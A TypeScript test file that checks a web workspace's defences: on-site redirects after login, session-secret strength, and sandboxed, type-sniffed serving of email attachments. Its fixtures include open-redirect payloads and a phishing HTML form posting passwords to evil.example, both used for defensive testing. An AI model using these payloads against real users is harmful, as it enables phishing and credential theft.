// The workspace's remaining doors: where sign-in may send you, the session secret, a stack without
// users, and stored documents served with a type we decide (never the sender's), in a sandbox.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdtempSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Fastify from 'fastify';
import { pino } from 'pino';
import type { Client } from '@temporalio/client';
import { registerWorkspace, safeNext } from '../../../web/workspace';
import { ReadModel } from '../../../storage/read-model';
import { DocumentStore } from '../../../storage/document-store';
import { loadConfig } from '../../../worker/config';
import { hashPassword } from '../../../web/auth';
import { WeakSecret } from '../../../storage/secrets';
import { routedState } from './states';
import type { HttpServer, HttpDeps } from '../../../http/server';

const NOW = Date.parse('2026-11-23T10:00:00Z');
const client = { workflow: { getHandle: () => ({ query: async () => Promise.reject(new Error('not found')) }) } } as unknown as Client;
const log = pino({ level: 'silent' });

function deps(dataDir: string, readModel = new ReadModel(':memory:')): HttpDeps {
  return { cfg: { ...loadConfig({}), dataDir, usersFile: null }, readModel, client, log } as unknown as HttpDeps;
}

async function workspace(d: HttpDeps, opts: Parameters<typeof registerWorkspace>[2] = {}) {
  const app = Fastify() as unknown as HttpServer;
  registerWorkspace(app, d, { now: () => NOW, ...opts });
  await app.ready();
  return app;
}

describe('after sign-in', () => {
  it('goes to a path of this site only', () => {
    expect(safeNext('/orders/C001-A1?doc=abc#l2')).toBe('/orders/C001-A1?doc=abc#l2');
    expect(safeNext('/search?q=%2F%2Fevil')).toBe('/search?q=%2F%2Fevil');
    for (const evil of ['//evil.example', '/\t/evil.example', '/\n/evil.example', '/\\evil.example', '\\/evil.example', 'https://evil.example', 'javascript:alert(1)', '/\u0000x', '', 42, null]) {
      expect([evil, safeNext(evil)]).toEqual([evil, '/']);
    }
  });
});

describe('the session secret', () => {
  it('is refused when its file is empty or short: a forged cookie would pass', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'aiguillage-secret-'));
    writeFileSync(join(dir, 'session-secret'), '');
    await expect(workspace(deps(dir))).rejects.toThrow(WeakSecret);
    writeFileSync(join(dir, 'session-secret'), 'short\n');
    await expect(workspace(deps(dir))).rejects.toThrow(/session secret file .* is 5 bytes long; at least 32 are needed/);
  });

  it('is made at random, for the service account only, and kept across restarts', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'aiguillage-secret-'));
    const app = await workspace(deps(dir));
    await app.close();
    const file = join(dir, 'session-secret');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    const secret = readFileSync(file, 'utf8');
    expect(Buffer.byteLength(secret.trim())).toBeGreaterThanOrEqual(32);
    await (await workspace(deps(dir))).close();
    expect(readFileSync(file, 'utf8')).toBe(secret);
  });
});

describe('without a users file', () => {
  it('says how to make one, and signs nobody in', async () => {
    const app = await workspace(deps(mkdtempSync(join(tmpdir(), 'aiguillage-nousers-'))));
    const page = await app.inject({ url: '/login' });
    expect(page.body).toContain('créez config/users.yaml');
    const post = await app.inject({ method: 'POST', url: '/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'login=admin&password=admin-demo-2026' });
    expect(post.statusCode).toBe(503);
    expect(post.headers['set-cookie']).toBeUndefined();
    await app.close();
  });
});

describe('stored documents', () => {
  let app: HttpServer;
  let cookie: string;
  let sha: string;
  const PDF = '%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n';
  const part = (type: string, name: string, body: string) =>
    `--b\r\nContent-Type: ${type}; name="${name}"\r\nContent-Disposition: attachment; filename="${name}"\r\nContent-Transfer-Encoding: base64\r\n\r\n${Buffer.from(body, 'latin1').toString('base64')}\r\n`;
  const EMAIL = [
    'From: achats@dupont.example\r\nTo: adv@fixations.example\r\nSubject: Commande\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="b"\r\n\r\n',
    '--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nVoir pièces jointes.\r\n',
    part('text/html', 'connexion.html', '<html><body><form action="https://evil.example/steal"><input name="password"></form><script>alert(1)</script></body></html>'),
    part('application/pdf', 'commande.pdf', PDF),
    part('application/pdf', 'faux.pdf', '<html><script>alert(1)</script></html>'),
    part('image/png', 'photo.png', '\u0001\u0002\u0003binary\u0000\u00ff'),
    '--b--\r\n',
  ].join('');

  beforeAll(async () => {
    const dir = mkdtempSync(join(tmpdir(), 'aiguillage-docs-'));
    const usersFile = join(dir, 'users.yaml');
    writeFileSync(usersFile, `users:\n  - { login: lea, name: Léa, role: agent, teams: [sud-est], password_hash: "${await hashPassword('mot-de-passe-17h')}" }\n`);
    const { meta } = await new DocumentStore(dir).put(Buffer.from(EMAIL), { fileName: 'commande.eml', mediaType: 'message/rfc822', channel: 'email', receivedAt: '2026-11-23T08:00:00Z', context: {} });
    sha = meta.sha256;
    const readModel = new ReadModel(':memory:');
    const s = routedState({ id: 'C001-A1', po: 'A-1', team: 'sud-est', receivedAt: '2026-11-23T08:00:00Z', dueAt: '2026-11-23T16:00:00Z' });
    readModel.upsert({ ...s, documents: s.documents.map((d) => ({ ...d, sha256: sha })) });
    app = await workspace(deps(dir, readModel), { usersFile, sessionSecret: Buffer.from('s'.repeat(32)) });
    const r = await app.inject({ method: 'POST', url: '/login', headers: { 'content-type': 'application/x-www-form-urlencoded' }, payload: 'login=lea&password=mot-de-passe-17h' });
    cookie = String(r.headers['set-cookie']).split(';')[0]!;
  });
  afterAll(() => app?.close());

  it('refuses a sign-in whose Origin is not a URL (not a server error)', async () => {
    const r = await app.inject({ method: 'POST', url: '/login', headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'not a url' }, payload: 'login=lea&password=mot-de-passe-17h' });
    expect(r.statusCode).toBe(403);
  });

  const get = (path: string) => app.inject({ url: `/orders/C001-A1/documents/${sha}${path}`, headers: { cookie } });

  it("serves an attachment with the type its bytes have, never the sender's, sandboxed", async () => {
    const expected: [number, string, string][] = [
      [0, 'text/plain; charset=utf-8', 'inline'], // text/html from the sender: shown as text, never rendered on our origin
      [1, 'application/pdf', 'inline'],
      [2, 'text/plain; charset=utf-8', 'inline'], // "application/pdf" that is HTML
      [3, 'application/octet-stream', 'attachment'], // "image/png" that is not an image
    ];
    for (const [i, type, disposition] of expected) {
      const res = await get(`/attachments/${i}`);
      expect([i, res.statusCode, res.headers['content-type'], String(res.headers['content-disposition']).split(';')[0]]).toEqual([i, 200, type, disposition]);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      // Browsers show no PDF in a sandbox; a PDF is never rendered as HTML, and scripts stay off.
      expect(res.headers['content-security-policy']).toMatch(type === 'application/pdf' ? /^default-src 'none'/ : /^sandbox; default-src 'none'/);
    }
  });

  it('serves the stored document itself the same way', async () => {
    const res = await get('');
    expect([res.statusCode, res.headers['content-type'], res.headers['x-content-type-options']]).toEqual([200, 'text/plain; charset=utf-8', 'nosniff']);
    expect(res.headers['content-security-policy']).toMatch(/^sandbox;/);
  });
});
